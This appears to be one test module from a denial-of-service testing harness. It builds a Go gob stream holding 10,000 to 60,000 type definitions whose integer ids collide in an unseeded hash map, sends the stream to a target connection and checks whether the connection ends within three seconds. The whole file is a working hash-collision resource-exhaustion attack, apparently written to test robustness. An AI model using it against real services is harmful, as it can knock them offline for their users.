import { defineAttack } from "../attack.ts";
import { header } from "../bytes/features.ts";
import { gobInt, gobMessage, gobType, sliceType } from "../bytes/gob.ts";
import { collidingIntegers } from "../bytes/integer-hash.ts";

export default defineAttack<number>({
  title: "definitions whose type ids collide in a Map of integers, whose hash has no seed",
  group: "no-password",
  limits: ["gob types of a stream"],
  variants: { "10,000 ids": 10_000, "15,000 ids": 15_000, "60,000 ids": 60_000 },
  async run(field, count) {
    const ids = collidingIntegers(count);
    const definitions = Buffer.concat(ids.map((id) => sliceType(id, gobType.int)));
    const bytes = Buffer.concat([header(1, 1), definitions, gobMessage(gobInt(ids[0]!), Buffer.of(0, 0))]);
    field.notes.bytes = bytes.length;
    await field.begin();
    const connection = await field.connect();
    await connection.send(bytes);
    field.notes.ended = await connection.endedWithin(3_000);
  },
});
